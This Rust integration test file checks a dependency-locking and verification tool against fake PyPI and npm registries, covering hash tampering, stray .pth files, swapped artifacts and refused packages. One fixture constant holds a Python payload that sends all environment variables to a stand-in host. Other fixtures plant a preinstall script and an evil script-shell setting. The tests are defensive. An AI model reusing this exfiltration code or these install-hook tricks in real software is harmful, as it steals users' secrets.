//! `foretaste lock` and `foretaste verify`, with the real uv and the real pip, against indexes on the loopback interface.

use std::path::{Path, PathBuf};
use std::process::Command;

use foretaste_fake_registries::{FakeNpm, FakeProject, FakePypi, FakeServer, JsonApi, wheel};
use serde_json::{Value, json};

use crate::support::{Home, Run, fixture_files, serving};

/// Indexes for these tests.
pub(crate) struct Index;

impl Index {
    /// `alpha`, whose newest release is two days old, and `beta`, which it needs.
    pub(crate) fn plain() -> FakePypi {
        Self::projects(json!([]))
    }

    /// The same, and an advisory says that the newest `alpha` mends the one before.
    pub(crate) fn with_a_fix() -> FakePypi {
        Self::projects(json!([{
            "id": "PYSEC-2026-1", "aliases": [], "details": "a flaw", "summary": "a flaw",
            "fixed_in": ["1.2"], "link": "https://advisories.example/1", "source": "osv", "withdrawn": null,
        }]))
        .json_api(JsonApi::Full)
    }

    fn projects(vulnerabilities: Value) -> FakePypi {
        let module = [("alpha/__init__.py", "VALUE = 1\n")];
        let alpha = |version| wheel("alpha", version, &["beta>=1"], &module);
        FakePypi::new()
            .project(
                FakeProject::new("alpha")
                    .file(alpha("1.1").uploaded("2026-01-01T00:00:00Z"))
                    .file(alpha("1.2").uploaded("2026-10-30T00:00:00Z"))
                    .info(json!({"version": "1.2"}))
                    .vulnerabilities(vulnerabilities),
            )
            .project(
                FakeProject::new("beta").file(
                    wheel("beta", "1.0", &[], &[("beta.py", "VALUE = 2\n")])
                        .uploaded("2026-01-01T00:00:00Z"),
                ),
            )
            .project(
                FakeProject::new("gamma").file(
                    wheel("gamma", "1.0", &[], &[("gamma.py", "VALUE = 3\n")])
                        .uploaded("2026-01-01T00:00:00Z"),
                ),
            )
    }
}

/// uv, which resolves. A build server must have it; elsewhere its absence is told.
pub(crate) fn uv() -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found = std::env::split_paths(&path)
        .map(|dir| dir.join("uv"))
        .find(|candidate| candidate.is_file());
    if found.is_none() {
        assert!(std::env::var_os("CI").is_none(), "uv is not on PATH");
        eprintln!("skipped: uv is not installed");
    }
    found
}

fn home(index: &FakeServer) -> Home {
    Home::new().with("PIP_INDEX_URL", &format!("{}/simple", index.url()))
}

/// The lock that is written for `alpha` under a policy.
pub(crate) fn locked(index: &FakeServer, policy: &str) -> String {
    let home = home(index);
    home.write("foretaste.toml", policy);
    home.write("app/requirements.in", "alpha>=1\n");
    let run = home.run(&["lock", "app"]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    read(&home, "app/requirements.txt")
}

pub(crate) fn read(home: &Home, path: &str) -> String {
    std::fs::read_to_string(home.path().join(path)).expect("it was written")
}

/// Runs the real pip of a new environment.
fn pip(home: &Home, index: &FakeServer, args: &[&str]) -> Run {
    let venv = home.path().join("env");
    if !venv.exists() {
        let made = Command::new("python3")
            .args(["-m", "venv"])
            .arg(&venv)
            .output()
            .expect("python3 runs");
        assert!(
            made.status.success(),
            "{}",
            String::from_utf8_lossy(&made.stderr)
        );
    }
    let host = index.url();
    let output = Command::new(venv.join("bin/python"))
        .args([
            "-m",
            "pip",
            "--disable-pip-version-check",
            "--no-cache-dir",
            "install",
        ])
        .args([
            "--index-url",
            &format!("{host}/simple"),
            "--trusted-host",
            "127.0.0.1",
        ])
        .args(args)
        .env("PIP_CONFIG_FILE", "/dev/null")
        .output()
        .expect("pip runs");
    Run {
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        code: output.status.code().unwrap_or(-1),
    }
}

pub(crate) fn text_of(path: &Path) -> String {
    path.display().to_string()
}

/// The checks that fail, with their subjects.
fn failures(home: &Home) -> Vec<String> {
    let env = text_of(&home.path().join("env"));
    let run = home.run(&["verify", "app", "--env", &env, "--format", "json"]);
    let found: Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}{}", run.stdout, run.stderr));
    assert_eq!(found["skipped"], json!([]), "{found:#}");
    let failures = found["failures"].as_array().expect("a list");
    assert_eq!(run.code, i32::from(!failures.is_empty()));
    failures
        .iter()
        .map(|f| {
            format!(
                "{} {}",
                f["check"].as_str().unwrap_or("-"),
                f["subject"].as_str().unwrap_or("-")
            )
        })
        .collect()
}

#[test]
fn a_lock_is_installed_by_pip_and_verified_and_each_change_fails_with_its_own_message() {
    if uv().is_none() {
        return;
    }
    serving(async || {
        let index = Index::plain().start().await;
        let home = home(&index);
        home.write("app/requirements.in", "alpha>=1\n");
        let run = home.run(&["lock", "app"]);
        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
        let lock = read(&home, "app/requirements.txt");
        for part in [
            "alpha==1.2",
            "beta==1.0",
            "--hash=sha256:",
            "--only-binary :all:",
            "foretaste lock requirements.in",
        ] {
            assert!(lock.contains(part), "{part}\n{lock}");
        }
        let place = text_of(&home.path().join("app/requirements.txt"));
        let installed = pip(&home, &index, &["--require-hashes", "-r", &place]);
        assert_eq!(
            installed.code, 0,
            "{}{}",
            installed.stdout, installed.stderr
        );
        assert_eq!(failures(&home), Vec::<String>::new());

        // a hash that somebody changed
        let at = lock.find("sha256:").expect("a hash") + 7;
        let other = if &lock[at..=at] == "0" { "1" } else { "0" };
        let tampered = format!("{}{other}{}", &lock[..at], &lock[at + 1..]);
        home.write("app/requirements.txt", &tampered);
        let refused = pip(
            &home,
            &index,
            &["--force-reinstall", "--require-hashes", "-r", &place],
        );
        assert_ne!(refused.code, 0, "pip accepts a wrong hash");
        assert_eq!(failures(&home), ["unknown-digest alpha 1.2"]);

        // a loose line
        home.write("app/requirements.txt", format!("{lock}gamma>=1\n"));
        assert_eq!(failures(&home), ["unpinned gamma"]);
        home.write("app/requirements.txt", &lock);

        // something installed beside
        let extra = pip(&home, &index, &["gamma"]);
        assert_eq!(extra.code, 0, "{}", extra.stderr);
        assert_eq!(failures(&home), ["installed-extra gamma"]);
        let gone = Command::new(home.path().join("env/bin/python"))
            .args(["-m", "pip", "uninstall", "--yes", "--quiet", "gamma"])
            .status()
            .expect("pip runs");
        assert!(gone.success());
        assert_eq!(failures(&home), Vec::<String>::new());

        // a file that was changed, and one that was laid beside
        let site = site_packages(&home);
        let path = site.join("beta.py");
        let before = std::fs::read(&path).expect("installed");
        std::fs::write(&path, "VALUE = 'other'\n").expect("written");
        assert_eq!(failures(&home), ["file-changed beta"]);
        std::fs::write(&path, before).expect("written");
        std::fs::write(site.join("zz.pth"), "import beta\n").expect("written");
        assert_eq!(failures(&home), ["stray-file zz.pth"]);
        let told = home.run(&[
            "audit",
            "--env",
            &text_of(&home.path().join("env")),
            "--format",
            "json",
        ]);
        assert!(
            told.stdout.contains("altered-installation"),
            "{}{}",
            told.stdout,
            told.stderr
        );
        std::fs::remove_file(site.join("zz.pth")).expect("removed");

        // something that is not there
        std::fs::remove_dir_all(site.join("beta-1.0.dist-info")).expect("removed");
        let found = failures(&home);
        assert!(
            found.contains(&"not-installed beta".to_owned()),
            "{found:?}"
        );
    });
}

fn site_packages(home: &Home) -> PathBuf {
    let lib = home.path().join("env/lib");
    let python = std::fs::read_dir(lib)
        .expect("a folder")
        .flatten()
        .next()
        .expect("a Python");
    python.path().join("site-packages")
}

#[test]
fn what_policy_refuses_is_not_locked_and_nothing_is_written() {
    if uv().is_none() {
        return;
    }
    serving(async || {
        let steal = fixture_files("pypi/acme-corp-util-1.0.3")
            .into_iter()
            .find(|(path, _)| path == "setup.py")
            .map(|(_, text)| text)
            .expect("a fixture");
        let bad = wheel(
            "acme-corp-util",
            "1.0.3",
            &[],
            &[
                ("acme_corp_util/__init__.py", STEALS),
                ("acme_corp_util/old.py", &steal),
            ],
        );
        let index = Index::plain()
            .project(FakeProject::new("acme-corp-util").file(bad))
            .start()
            .await;
        let home = home(&index);
        home.write("app/requirements.in", "alpha\nacme-corp-util\n");
        let run = home.run(&["lock", "app"]);
        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
        for part in [
            "acme-corp-util 1.0.3: the verdict on it is block",
            "nothing was written",
        ] {
            assert!(run.stderr.contains(part), "{part}\n{}", run.stderr);
        }
        assert!(!home.path().join("app/requirements.txt").exists());
    });
}

/// Inert: the host does not exist.
const STEALS: &str = "import base64\nimport json\nimport os\nfrom urllib.request import Request, urlopen\n\nblob = base64.b64encode(json.dumps(dict(os.environ)).encode())\nurlopen(Request('https://collect.example.invalid/c', data=blob))\n";

#[test]
fn source_alone_is_refused_plainly_and_a_young_release_waits() {
    if uv().is_none() {
        return;
    }
    serving(async || {
        let alone = foretaste_fake_registries::FakeFile::new(
            "delta-1.0.tar.gz",
            &crate::support::sdist("delta", "1.0"),
        );
        let index = Index::plain()
            .project(FakeProject::new("delta").file(alone))
            .start()
            .await;
        let home = home(&index);
        home.write("app/requirements.in", "delta\n");
        let run = home.run(&["lock", "app"]);
        assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
        assert!(
            run.stderr.contains("published as source alone"),
            "{}",
            run.stderr
        );
        home.write("app/requirements.in", "alpha\n");
        let run = home.run(&["lock", "app", "--min-age", "7", "--to", "pylock"]);
        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
        let lock = read(&home, "app/pylock.toml");
        assert!(lock.contains("1.1") && !lock.contains("1.2"), "{lock}");
        let wrong = home.run(&["lock", "nowhere"]);
        assert_eq!(wrong.code, 2, "{}", wrong.stderr);
    });
}

#[test]
fn what_is_served_under_a_true_hash_is_compared_with_it() {
    serving(async || {
        let module = [("alpha/__init__.py", "VALUE = 1\n")];
        let other = [("alpha/__init__.py", "VALUE = 666\n")];
        let honest = FakePypi::new()
            .project(FakeProject::new("alpha").file(wheel("alpha", "1.0", &[], &module)))
            .start()
            .await;
        let true_hash = digest_of(&honest);
        let swapped = wheel("alpha", "1.0", &[], &other).sha256(&true_hash);
        let index = FakePypi::new()
            .project(FakeProject::new("alpha").file(swapped))
            .start()
            .await;
        let home = home(&index);
        home.write(
            "app/requirements.txt",
            format!("alpha==1.0 --hash=sha256:{true_hash}\n"),
        );
        let run = home.run(&["verify", "app"]);
        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
        assert!(run.stdout.contains("[served-differs]"), "{}", run.stdout);
        assert_eq!(home.run(&["verify", "app", "--index-only"]).code, 0);
        let offline = home.run(&["--offline", "verify", "app"]);
        assert_eq!(offline.code, 3, "{}", offline.stdout);
        assert!(offline.stdout.contains("not checked"), "{}", offline.stdout);
    });
}

/// The digest that the index publishes for the only file.
fn digest_of(index: &FakeServer) -> String {
    let home = home(index);
    home.write(
        "probe/requirements.txt",
        format!("alpha==1.0 --hash=sha256:{}\n", "0".repeat(64)),
    );
    let run = home.run(&["audit", "pypi:alpha@1.0", "--format", "json"]);
    let report: Value = serde_json::from_str(&run.stdout).expect("JSON");
    report["releases"][0]["artifacts"][0]["digest"]
        .to_string()
        .trim_matches('"')
        .rsplit(':')
        .next()
        .expect("a digest")
        .trim_matches(['"', '}'])
        .to_owned()
}

#[test]
fn each_way_to_leave_something_open_has_its_place() {
    let home = Home::new();
    home.write(
        "app/package.json",
        r#"{"name": "a", "dependencies": {"x": "^1"}}"#,
    );
    home.write(
        "app/deploy/requirements.txt",
        "--extra-index-url https://pkgs.example/simple\nalpha==1.0\nown @ git+https://git.example/own@main\n",
    );
    home.write(
        "app/.github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    steps:\n      - uses: acme/checkout@v4\n",
    );
    let run = home.run(&["--offline", "verify", "app"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    for part in [
        "package.json: package.json asks for packages, and no lock settles them  [no-lock]",
        "deploy/requirements.txt:1:1: https://pkgs.example/simple is asked for every name",
        "deploy/requirements.txt:2:1: alpha has no hash",
        "own comes from git+https://git.example/own, which is no approved source  [unapproved-source]",
        ".github/workflows/ci.yml:5:15: acme/checkout@v4 can be moved",
    ] {
        assert!(run.stdout.contains(part), "{part}\n{}", run.stdout);
    }
}

#[test]
fn npm_locks_without_scripts_and_without_the_settings_that_name_programs() {
    let path = std::env::var_os("PATH").unwrap_or_default();
    if !std::env::split_paths(&path).any(|dir| dir.join("npm").is_file()) {
        assert!(std::env::var_os("CI").is_none(), "npm is not on PATH");
        eprintln!("skipped: npm is not installed");
        return;
    }
    serving(async || {
        let manifest = json!({"name": "left", "version": "1.0.0"});
        let text = manifest.to_string();
        let files = [
            ("package.json", &*text),
            ("index.js", "module.exports = 1;\n"),
        ];
        let registry = FakeNpm::new()
            .version("left", "1.0.0", &manifest, &files)
            .start()
            .await;
        let home = Home::new().with("npm_config_registry", &registry.url());
        home.write("app/package.json", r#"{"name": "app", "version": "1.0.0", "scripts": {"preinstall": "touch ran"}, "dependencies": {"left": "^1.0.0"}}"#);
        home.write("app/.npmrc", "script-shell=./evil.sh\n");
        let run = home.run(&["lock", "app"]);
        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
        let lock = read(&home, "app/package-lock.json");
        assert!(lock.contains("sha512-"), "{lock}");
        assert!(!home.path().join("app/ran").exists());
        assert!(!home.path().join("app/node_modules").exists());
        let verified = home.run(&["verify", "app"]);
        assert_eq!(verified.code, 0, "{}{}", verified.stdout, verified.stderr);
        // a repository would have to be prepared, which runs its scripts
        home.write("app/package.json", r#"{"name": "app", "version": "1.0.0", "dependencies": {"x": "git+https://git.example.invalid/x.git"}}"#);
        let refused = home.run(&["lock", "app"]);
        assert_eq!(refused.code, 2);
        assert!(
            refused.stderr.contains("nothing is built here"),
            "{}",
            refused.stderr
        );
    });
}
